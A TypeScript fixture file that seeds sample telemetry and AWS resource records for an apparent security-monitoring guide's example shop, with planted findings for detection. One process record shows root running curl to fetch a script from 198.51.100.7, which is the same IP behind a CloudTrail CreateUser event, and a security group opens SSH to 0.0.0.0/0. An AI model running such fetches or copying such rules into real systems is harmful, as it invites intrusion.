import type { TelemetryDataset } from '../telemetry/dataset.ts';
import { cloudTrailRawEvents } from '../telemetry/datasets/CloudTrailRawEvents.ts';
import { dnss } from '../telemetry/datasets/DNSs.ts';
import { machineDetails } from '../telemetry/datasets/MachineDetails.ts';
import { processes } from '../telemetry/datasets/Processes.ts';
import { users } from '../telemetry/datasets/Users.ts';
import { recordResources } from '../telemetry/snapshot.sample.ts';
import type { Telemetry } from '../telemetry/telemetry.ts';

const account = '123456789012';
const createdTime = '2026-03-01T10:15:00.000Z';
const window = { startTime: '2026-03-01T10:00:00.000Z', endTime: '2026-03-01T11:00:00.000Z' };

const [web, db, build] = [1, 2, 3];
const machine = (mid: number, hostname: string, os: string, tags: object) => ({
  ...{ createdTime, mid, hostname, domain: 'shop.example', os, osVersion: '22.04', kernel: 'Linux' },
  ...{ kernelRelease: '6.1.0', kernelVersion: '#1 SMP', tags },
});
const process = (mid: number, pid: number, username: string, filePath: string, cmdline?: string) => ({
  ...{ ...window, mid, pid, ppid: 1, uid: username === 'root' ? 0 : 1000, username, filePath, cmdline },
  ...{ cmdlineHash: 'd41d8cd98f00b204e9800998ecf8427e', processStartTime: `2026-02-27T08:00:0${mid}.000Z` },
  pidHash: 9_007_199_254_740_000 + pid,
});
const user = (mid: number, uid: number, username: string, otherGroupNames?: string[]) => ({
  ...{ createdTime, mid, uid, username, primaryGroupName: username, otherGroupNames },
});
const lookup = (mid: number, fqdn: string, hostIpAddr: string, ttl: number) => ({
  ...{ createdTime, mid, fqdn, hostIpAddr, ttl, dnsServerIp: '10.0.0.2' },
});
const apiCall = (eventID: string, eventName: string, userIdentity: object, rest: object = {}) => ({
  ...{ eventTime: createdTime, eventID, eventName, eventSource: 'iam.amazonaws.com', userIdentity, ...rest },
});

/** The telemetry of the guide's example shop. */
const exampleTelemetry = [
  {
    dataset: machineDetails,
    records: [
      machine(web, 'web-1', 'Ubuntu', { Env: 'production', ExternalIp: '203.0.113.10', VmProvider: 'AWS' }),
      machine(db, 'db-1', 'Ubuntu', { Env: 'production', ExternalIp: '', VmProvider: 'AWS' }),
      machine(build, 'build-1', 'Debian', { Env: 'test', ExternalIp: '' }),
    ],
  },
  {
    dataset: processes,
    records: [
      process(web, 700, 'www', '/usr/sbin/nginx', 'nginx: worker process'),
      process(web, 812, 'root', '/usr/bin/curl', 'curl -s http://198.51.100.7/x.sh'),
      process(db, 420, 'postgres', '/usr/lib/postgresql/16/bin/postgres', 'postgres -D /var/lib/postgresql'),
      process(build, 333, 'ci', '/usr/bin/make'),
    ],
  },
  {
    dataset: users,
    records: [
      user(web, 0, 'root'),
      user(web, 33, 'www', ['ssl-cert']),
      user(build, 1000, 'ci', ['docker', 'sudo']),
    ],
  },
  {
    dataset: dnss,
    records: [
      lookup(web, 'api.payments.example', '192.0.2.10', 60),
      lookup(web, 'updates.example', '192.0.2.20', 300),
      lookup(build, 'registry.example', '10.1.0.5', 30),
    ],
  },
  {
    dataset: cloudTrailRawEvents,
    records: [
      apiCall('e-1', 'CreateUser', { type: 'IAMUser', userName: 'ana' }, { sourceIPAddress: '198.51.100.7' }),
      apiCall('e-2', 'DeleteUser', { type: 'Root' }, { errorCode: 'AccessDenied' }),
    ],
  },
];

const arn = (bucket: string) => `arn:aws:s3:::${bucket}`;
const bucket = (name: string, config: object, tags?: object) => resource(arn(name), name, config, tags);
const resource = (key: string, id: string, config: object, tags?: object) => ({
  key,
  facts: {
    ...{
      URN: key,
      RESOURCE_ID: id,
      RESOURCE_TYPE: key.split(':')[2] ?? '',
      SERVICE: key.split(':')[2] ?? '',
    },
    ...{ ACCOUNT_ID: account, RESOURCE_REGION: 'eu-central-1' },
  },
  config: JSON.stringify(config),
  tags: tags && JSON.stringify(tags),
});
const group = (id: string, permissions: readonly object[]) =>
  resource(`arn:aws:ec2:eu-central-1:${account}:security-group/${id}`, id, {
    GroupName: id,
    IpPermissions: permissions,
  });
const openPort = (port: number, ...ranges: string[]) => ({
  ...{ FromPort: port, ToPort: port, IpRanges: ranges.map((CidrIp) => ({ CidrIp })) },
});

/** The cloud resources of the shop. */
const exampleResources = {
  LW_CFG_AWS_S3: [
    bucket('invoices', { Name: 'invoices' }, { owner: 'billing' }),
    bucket('uploads', { Name: 'uploads' }, { owner: 'web' }),
  ],
  LW_CFG_AWS_S3_GET_BUCKET_ENCRYPTION: [
    bucket('invoices', {
      ServerSideEncryptionConfiguration: { Rules: [{ BucketKeyEnabled: true }] },
    }),
  ],
  LW_CFG_AWS_EC2_SECURITY_GROUPS: [
    group('sg-web', [openPort(443, '0.0.0.0/0'), openPort(22, '10.0.0.0/8', '0.0.0.0/0')]),
    group('sg-db', [openPort(5432, '10.0.0.0/8')]),
    group('sg-empty', []),
  ],
};

export interface ExampleStore {
  readonly telemetry: Telemetry;
  take(dataset: TelemetryDataset, account: string, records: readonly object[]): Promise<void>;
}

/** Stores the telemetry and resources. */
export async function storeExamples(store: ExampleStore, owner: string): Promise<void> {
  for (const { dataset, records } of exampleTelemetry) await store.take(dataset, owner, records);
  const instant = Date.parse(createdTime);
  for (const [kind, resources] of Object.entries(exampleResources)) {
    await recordResources(store.telemetry, {
      ...{ account: owner, kind, cloudAccount: account, started: instant, ended: instant, resources },
    });
  }
}
